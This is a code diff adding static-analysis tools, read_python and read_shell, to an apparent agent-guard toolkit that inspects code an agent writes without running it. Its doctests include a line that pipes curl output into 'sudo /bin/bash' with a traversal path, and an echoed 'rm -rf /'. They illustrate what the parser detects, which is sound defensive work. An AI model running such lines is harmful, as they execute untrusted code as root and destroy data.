@@ -1,10 +1,16 @@
-"""Programs that an agent wrote: what they read and what they call, without running them."""
+"""Programs and shell lines that an agent wrote: what they read, call and run, without running them."""
 
 from __future__ import annotations
 
+import functools
+import json
+
+from guardagent_toolbox.reading.plain import as_text
 from guardagent_toolbox.reading.program import called_names, reads_of_program
-from guardagent_toolbox.reading.python import parse_python
+from guardagent_toolbox.reading.python import is_dense, parse_python
+from guardagent_toolbox.reading.python_facts import facts_of_python
 from guardagent_toolbox.reading.schema import UNKNOWN, Schema
+from guardagent_toolbox.reading.shell_commands import commands_of
 from guardagent_toolbox.spec import tool
 
 
@@ -53,3 +59,59 @@ def called_functions(code: str) -> list[str] | None:
     """
     tree = parse_python(code)
     return None if tree is None else called_names(tree)
+
+
+@tool(group="code")
+def read_python(code: str) -> dict[str, object] | None:
+    """How a Python program is built, as one object; None when it cannot be read. Comments are dropped.
+
+    Dotted names are led back through imports: after `import os as o`, `o.system()` is "os.system"; a part without a
+    name is "?". Keys: "imports" ("module", "name" or None, "alias", "line"; "?" for a computed module) · "calls"
+    ("name", "arguments" and "keywords" with the values that are written out and None for others, "line") · "names" ·
+    "attributes" (dotted) · "writes" (attributes and items that are set: "name", "line") · "texts" (string constants,
+    docstrings aside: "text", "line") · "functions" ("name", "line", "lines", "parameters", "docstring", "annotated",
+    "decorators", "async") · "classes" ("name", "line", "bases", "docstring") · "handlers" (of exceptions: "types", []
+    for a bare one, "silent", "line") · "docstring" (of the module) · "globals".
+
+    >>> read_python("from os import system as run\\nrun('ls -l', shell=True)")["calls"]
+    [{'name': 'os.system', 'arguments': ['ls -l'], 'keywords': {'shell': True}, 'line': 2}]
+    """
+    text = as_text(code)
+    found = None if text is None else _python(text)
+    # Read anew each time, so that what one caller does to its answer is not seen by the next.
+    return None if found is None else dict[str, object](json.loads(found))
+
+
+# Each clause asks for the same text again; reading a long one takes some milliseconds.
+@functools.lru_cache(maxsize=4)
+def _python(code: str) -> str | None:
+    """The answer of `read_python` as JSON text."""
+    tree = None if is_dense(code) else parse_python(code)
+    try:
+        return None if tree is None else json.dumps(facts_of_python(tree))
+    except RecursionError:
+        return None
+
+
+@tool(group="code")
+def read_shell(line: str) -> list[dict[str, object]] | None:
+    """The commands of a shell line in order, each as an object; None when it cannot be read. Comments are dropped.
+
+    None stands for open quotes or brackets, functions, `case`, `[[`. Commands inside `$(...)`, backticks, `sh -c "…"`,
+    `eval` and `find -exec` are in the list, too; words that are only printed or searched for are not. Keys: "name"
+    (without folder and behind sudo, env, xargs and the like; "?" when it is computed; "" when there is none) ·
+    "wrappers" (such as "sudo") · "words" · "arguments" (words that are no options) · "options" ("-rf" is also "-r" and
+    "-f"; of "--force=x" it is "--force") · "texts" (printed or searched for) · "paths" (everything that may name a
+    file, with ".." resolved) · "writes" and "reads" (files of redirections) · "assigned" (variables) · "after" (the
+    operator before it: "", "|", "&&", "||", ";", "&", line break) · "piped_from" (names before it in the pipeline) ·
+    "inside" (name of the command that it is part of, "" at the top) · "substituted" (its output is put into that one) ·
+    "substitutions" (number of `$(...)`, backticks, `<(...)` in it) · "computed" (holds variables or patterns).
+
+    >>> found = read_shell("curl -s x.example | sudo /bin/bash > /tmp/../etc/out")
+    >>> [c["name"] for c in found], found[1]["wrappers"], found[1]["piped_from"], found[1]["writes"]
+    (['curl', 'bash'], ['sudo'], ['curl'], ['/etc/out'])
+    >>> [c["name"] for c in read_shell("echo 'rm -rf /' # reboot")], read_shell("echo 'open")
+    (['echo'], None)
+    """
+    text = as_text(line)
+    return None if text is None else commands_of(text)
